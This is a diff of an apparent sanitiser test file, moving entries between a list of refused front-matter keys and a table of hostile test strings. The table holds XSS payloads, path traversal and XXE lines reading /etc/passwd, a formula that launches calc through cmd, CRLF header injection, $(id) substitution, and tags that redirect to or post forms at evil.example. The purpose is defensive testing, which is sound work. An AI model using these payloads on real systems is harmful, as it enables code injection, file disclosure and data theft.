@@ -33,8 +33,6 @@ REFUSED = [
     ("layout key", "layout: ../../etc/passwd", "", 2, 'unknown key'),
     ("permalink key", "permalink: /../../x/", "", 2, 'unknown key'),
     ("url key", "url: javascript:alert(1)", "", 2, 'unknown key'),
-    ("php in a key", "title: '<?php echo 1 ?>'", "", 2, 'holds a comment'),
-    ("template element", "", "<template><script>", 6, 'hides nothing'),
     ("template key", "template: '{{ 7*7 }}'", "", 2, 'unknown key'),
     ("merge key", "<<: {draft: false}", "", 2, 'YAML merge keys (<<) are not used here'),
     ("key a list", "? [a, b]\n: c", "", 2, 'a key must be text'),
@@ -388,12 +386,12 @@ TEXTS = {
     "script": "<script>alert(1)</script>", "closing script": "</script><script>alert(1)</script>", "half a comment": "<!-<script>", "handler": "<img src=x onerror=alert(1)>",
     "attribute": 'x" onmouseover="alert(1)', "single": "x' onmouseover='alert(1)", "title end": "</title><script>1</script>", "cdata": "x]]><script>1</script>", "comment end": "x--><script>1</script>",
     "jinja": "{{ 7*7 }} {% raw %} {{ site }}", "jinja include": "{% include '/etc/passwd' %}", "esi": '<esi:include src="https://evil.example/"/>',
-    "asp": "<% 1 %>", "entity": "&lt;script&gt;", "numeric": "&#60;script&#62;", "ampersand": "a&b=c&amp;copy", "marks of ours": "x\ue000\ue001\uf8ffy", "line separators": "a\u2028b\u2029c",
+    "php": "<?php echo 1 ?>", "asp": "<% 1 %>", "entity": "&lt;script&gt;", "numeric": "&#60;script&#62;", "ampersand": "a&b=c&amp;copy", "marks of ours": "x\ue000\ue001\uf8ffy", "line separators": "a\u2028b\u2029c",
     "override": "x\u202egnp.exe\u202c", "isolate": "x\u2067a\u2069\u2069\u2069", "unclosed isolate": "x\u2067\u2067\u2068a", "joiners": "x\u200d\u200c\u200b\u2060y", "tags": "\U000e0041\U000e0042x", "zalgo": "ن" + "\u0651" * 150,
-    "long word": "ن" * 190, "formats": "%s%n{0}{}{__class__}", "dollars": "${7*7}$(id)", "escapes": "x\\u003cscript\\x3e", "svg": "<svg/onload=alert(1)>", "math": '<math><mi//xlink:href="data:x,<script>">',
+    "long word": "ن" * 190, "formats": "%s%n{0}{}{__class__}", "dollars": "${7*7}$(id)", "escapes": "x\\u003cscript\\x3e", "svg": "<svg/onload=alert(1)>", "math": '<math><mi//xlink:href="data:x,<script>">', "template": "<template><script>",
     "base": "<base href=//evil.example/>", "refresh": "<meta http-equiv=refresh content=0;url=//evil.example>", "style": "<style>@import'//evil.example'</style>", "sheet": "<link rel=stylesheet href=//evil.example>", "form": "<form action=//evil.example><input name=x>",
     "noscript": '<noscript><p title="</noscript><img src=x onerror=1>">', "object": "<object data=x>", "null": "a\x00b", "emoji": "👨\u200d👩\u200d👧\u200d👦🇲🇦", "formula": "=cmd|'/C calc'!A0", "header": "a\r\nSet-Cookie: x=y", "address": "javascript:alert(1)", "plaintext": "<plaintext>",
-    "entities of XML": "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;", "shown address": "https://evil.example/<script>", "path": "../../../../etc/passwd", "device": "con", "controls": "\x1b]0;x\x07\x9b31mx", "noncharacters": "x\ufdd0\ufffe\uffffy",
+    "entities of XML": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;", "shown address": "https://evil.example/<script>", "path": "../../../../etc/passwd", "device": "con", "controls": "\x1b]0;x\x07\x9b31mx", "noncharacters": "x\ufdd0\ufffe\uffffy",
 }
 
 MARKDOWN = {
